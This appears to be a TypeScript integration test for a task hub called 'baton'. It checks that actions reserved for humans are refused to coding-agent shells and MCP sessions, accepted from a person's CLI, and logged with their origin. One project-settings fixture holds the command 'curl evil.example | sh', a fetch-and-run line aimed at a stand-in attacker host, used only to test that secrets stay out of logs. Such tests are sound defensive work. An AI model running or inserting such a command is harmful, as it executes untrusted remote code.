/**
 * The hub's declared human verbs (mcp-server/hub/humanVerbs.ts), against a real `baton hub` process
 * over raw websockets with the hub's own token: every verb in the list, table-driven, is refused to a
 * connection whose hello says it runs inside a coding agent and to an MCP session (the refusal says
 * what a person runs instead, and the log does not move), then allowed to a person, whose events name
 * the face and that no agent performed it. An agent reviewer keeps its path (a card whose review mode
 * asks for an agent), and its approval says an agent did it.
 */
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';

import type { BacklogEvent, Card } from '../../core/protocol';
import type { RpcClient } from '../../core/protocol/rpc';
import { humanVerbs } from '../../mcp-server/hub/humanVerbs';
import { type HubProcess, RawClient, client, removeDataDir, startHub, tempDataDir } from '../helpers/hub';

let dataDir: string;
let hub: HubProcess;
/** A person's face (the CLI from their terminal). */
let person: RawClient;
/** The CLI run from an agent's shell: its hello says so. */
let agentShell: RawClient;
/** An MCP session: an agent whatever it says. */
let mcp: RawClient;
/** The agent that holds and completes the cards the verbs act on. */
let worker: RpcClient;
let nextId = 1;

async function open(fields: Record<string, unknown>): Promise<RawClient> {
	const c = await RawClient.unix(hub.paths);
	const ok = await c.hello({ token: hub.token, ...fields });
	assert.equal(ok.hello, 'ok', JSON.stringify(ok));
	return c;
}

async function ok<T>(c: RawClient, method: string, params: unknown): Promise<T> {
	const r = await c.request(method, params);
	assert.equal(r.error, undefined, `${method}: ${JSON.stringify(r.error)}`);
	return r.result as T;
}

async function lastSeq(): Promise<number> {
	return (await ok<{ lastSeq: number }>(person, 'events/list', { limit: 1 })).lastSeq;
}

async function eventsAfter(seq: number): Promise<BacklogEvent[]> {
	return (await ok<{ events: BacklogEvent[] }>(person, 'events/list', { afterSeq: seq })).events;
}

async function newCard(extra: Record<string, unknown> = {}): Promise<string> {
	const id = `HV${nextId++}`;
	const card = { title: `Human verb ${id}`, id, ...extra };
	if (extra.review === undefined || extra.review === 'human') {
		await worker.request('card/create', { cards: [card] });
	} else {
		// Only a person creates a card with a review weaker than a person's (a human verb below).
		await ok(person, 'card/create', { cards: [card] });
	}
	return id;
}

async function claimed(): Promise<string> {
	const id = await newCard();
	await worker.request('card/claim', { cardId: id });
	return id;
}

async function completed(review: 'none' | 'human' | 'agent'): Promise<string> {
	const id = await newCard({ review });
	await worker.request('card/claim', { cardId: id });
	await worker.request('card/complete', { cardId: id, result: 'work done' });
	return id;
}

interface Case {
	method: keyof typeof humanVerbs;
	/** Builds the state the verb acts on; returns its params. */
	params: () => Promise<Record<string, unknown>>;
	/** What a person's call appends (the event type that must carry the origin). */
	event: BacklogEvent['type'];
	/** The command the refusal must name. */
	instead: RegExp;
}

const cases: Case[] = [
	{
		method: 'card/review',
		params: async () => ({ cardId: await completed('human'), approve: true }),
		event: 'approved',
		instead: /baton approve HV\d+/,
	},
	{
		method: 'card/complete',
		params: async () => ({ cardId: await claimed(), force: true, result: 'forced' }),
		event: 'completed',
		instead: /baton complete HV\d+ --force/,
	},
	{
		method: 'card/release',
		params: async () => ({ cardId: await claimed(), force: true }),
		event: 'released',
		instead: /baton release HV\d+ --force/,
	},
	{
		method: 'card/reclaim',
		params: async () => ({ cardId: await claimed() }),
		event: 'reclaimed',
		instead: /baton reclaim HV\d+/,
	},
	{
		method: 'agent/reclaim',
		params: async () => {
			await claimed();
			return { agentId: 'worker' };
		},
		event: 'reclaimed',
		instead: /baton reclaim --from worker/,
	},
	{
		method: 'card/unblock',
		params: async () => {
			const id = await newCard();
			await worker.request('card/block', { cardId: id, reason: 'waits for a person' });
			return { cardId: id };
		},
		event: 'unblocked',
		instead: /baton unblock HV\d+/,
	},
	{
		method: 'card/reopen',
		params: async () => ({ cardId: await completed('none') }),
		event: 'reopened',
		instead: /baton reopen HV\d+/,
	},
	{
		method: 'card/create',
		params: () => Promise.resolve({ cards: [{ id: `HV${nextId++}`, title: 'An unreviewed card', review: 'none' }] }),
		event: 'created',
		instead: /baton create TITLE --review MODE/,
	},
	{
		method: 'card/update',
		params: async () => ({ cardId: await newCard({ review: 'human' }), review: 'none' }),
		event: 'updated',
		instead: /baton edit HV\d+ --review none/,
	},
	{
		method: 'card/assign',
		params: async () => ({ cardId: await newCard(), assignee: 'kind:claude' }),
		event: 'assigned',
		instead: /baton assign HV\d+ kind:claude/,
	},
	{
		method: 'settings/update',
		params: () => Promise.resolve({ agentRetentionDays: 4 }),
		event: 'settings_changed',
		instead: /baton settings/,
	},
	{
		method: 'project/settings/update',
		params: () => Promise.resolve({ project: 'acme', setup: 'curl evil.example | sh', seats: 2 }),
		event: 'settings_changed',
		instead: /baton settings --project acme/,
	},
	{
		method: 'pause/set',
		params: () => Promise.resolve({ scope: 'phase', target: 'nightly', reason: 'a person paused it' }),
		event: 'paused',
		instead: /baton pause --phase nightly/,
	},
	{
		method: 'pause/clear',
		params: async () => {
			await ok(person, 'pause/set', { scope: 'kind', target: 'claude', reason: 'crash loop' });
			return { scope: 'kind', target: 'claude' };
		},
		event: 'resumed',
		instead: /baton resume --kind claude/,
	},
	{
		method: 'run/stop',
		params: async () => {
			await worker.request('run/register', {
				name: 'nightly',
				host: 'elsewhere',
				pid: 4242,
				seats: 1,
				kinds: ['claude'],
				project: null,
			});
			return { name: 'nightly' };
		},
		event: 'run_updated',
		instead: /Stop Agents in VS Code/,
	},
	{
		method: 'hooks/add',
		params: () => Promise.resolve({ url: 'http://127.0.0.1:9/secret-path', secret: 'a-secret-of-16-chars-or-more' }),
		event: 'hook_changed',
		instead: /baton hooks add http:\/\/127\.0\.0\.1:9\/secret-path/,
	},
	{
		method: 'hooks/remove',
		params: async () => {
			const r = await ok<{ hook: { id: string } }>(person, 'hooks/add', {
				url: 'http://127.0.0.1:9/r',
				secret: 'another-secret-of-16-chars',
			});
			return { id: r.hook.id };
		},
		event: 'hook_changed',
		instead: /baton hooks remove hk[0-9a-f]{8}/,
	},
	{
		method: 'hooks/resume',
		params: async () => {
			const r = await ok<{ hook: { id: string } }>(person, 'hooks/add', {
				url: 'http://127.0.0.1:9/s',
				secret: 'yet-another-secret-16-chars',
			});
			return { id: r.hook.id };
		},
		event: 'hook_changed',
		instead: /baton hooks resume hk[0-9a-f]{8}/,
	},
	{
		method: 'workspace/gc',
		params: () => Promise.resolve({ force: true }),
		event: 'workspace_gc',
		instead: /baton gc --force/,
	},
];

before(async () => {
	dataDir = tempDataDir();
	hub = await startHub({ dataDir });
	person = await open({ client: 'cli' });
	agentShell = await open({ client: 'cli', insideAgent: 'CLAUDECODE is set' });
	mcp = await open({ client: 'mcp', agent: { id: 'mcp-agent', capabilities: ['review'] } });
	worker = await client(dataDir, { agent: { id: 'worker' } });
});

after(async () => {
	for (const c of [person, agentShell, mcp]) {
		c.close();
	}
	worker.close();
	await hub.stop();
	removeDataDir(dataDir);
});

describe('the declared human verbs', () => {
	it('the table covers every declared verb', () => {
		assert.deepEqual(cases.map(c => c.method).sort(), Object.keys(humanVerbs).sort());
	});

	for (const c of cases) {
		it(`${c.method}: refused to an agent's shell and an MCP session, nothing logged; a person's is logged with its origin`, async () => {
			const params = await c.params();
			const before = await lastSeq();
			for (const [who, conn] of [
				['agent shell', agentShell],
				['mcp', mcp],
			] as const) {
				const r = await conn.request(c.method, params);
				const error = r.error as { code: string; message: string } | undefined;
				assert.ok(error !== undefined, `${c.method} from the ${who} was accepted`);
				// The review's refusal is core/rules/review.ts's (the agent reviewer's path stays open).
				assert.equal(error.code, c.method === 'card/review' ? 'invalid_transition' : 'unauthorized', error.message);
				assert.match(error.message, c.instead);
				assert.match(error.message, /from their own terminal, VS Code or the board|Ask a person to use /);
			}
			assert.equal(await lastSeq(), before, `${c.method}: a refused verb appended events`);
			await ok(person, c.method, params);
			const events = await eventsAfter(before);
			const mine = events.filter(e => e.type === c.event);
			assert.ok(mine.length > 0, `${c.method}: no ${c.event} event in ${events.map(e => e.type).join(', ')}`);
			for (const e of mine) {
				assert.deepEqual(e.data.origin, { client: 'cli', agent: false }, `${c.method}: ${JSON.stringify(e.data)}`);
				assert.match(e.actor, /^cli:\d+$/);
			}
		});
	}

	it('settings and hooks events name keys and the receiver, never values a secret may hide in', async () => {
		const events = (await ok<{ events: BacklogEvent[] }>(person, 'events/list', { afterSeq: 0, limit: 1000 })).events;
		const project = events.find(e => e.type === 'settings_changed' && e.data.settings?.project === 'acme');
		assert.deepEqual(project?.data.settings, { project: 'acme', keys: ['seats', 'setup'] });
		assert.equal(project.cardId, 'baton:settings');
		const hook = events.find(e => e.type === 'hook_changed');
		const text = JSON.stringify(hook);
		assert.match(text, /"receiver":"http:\/\/127\.0\.0\.1:9"/);
		assert.doesNotMatch(text, /secret-path|a-secret-of-16/);
		assert.equal(JSON.stringify(events).includes('curl evil.example'), false);
	});
});

describe("an agent reviewer's path", () => {
	it('an MCP session holding the review of an agent-review card approves it, and the event says an agent did', async () => {
		const id = await completed('agent');
		const taken = await ok<{ card: Card | null }>(mcp, 'card/claim', { review: true, capabilities: ['review'] });
		assert.equal(taken.card?.id, id);
		const before = await lastSeq();
		const r = await ok<{ card: Card }>(mcp, 'card/review', { cardId: id, approve: true });
		assert.equal(r.card.status, 'done');
		const approved = (await eventsAfter(before)).find(e => e.type === 'approved');
		assert.deepEqual(approved?.data.origin, { client: 'mcp', agent: true });
		assert.equal(approved.actor, 'mcp-agent');
	});

	it('an agent shell cannot approve a human-review card even when it holds nothing', async () => {
		const id = await completed('human');
		const r = await agentShell.request('card/review', { cardId: id, approve: false, note: 'redo' });
		assert.match(JSON.stringify(r.error), /Ask a person to run `baton reject/);
		const card = (await ok<{ card: Card }>(person, 'card/get', { cardId: id })).card;
		assert.equal(card.status, 'review');
	});
});
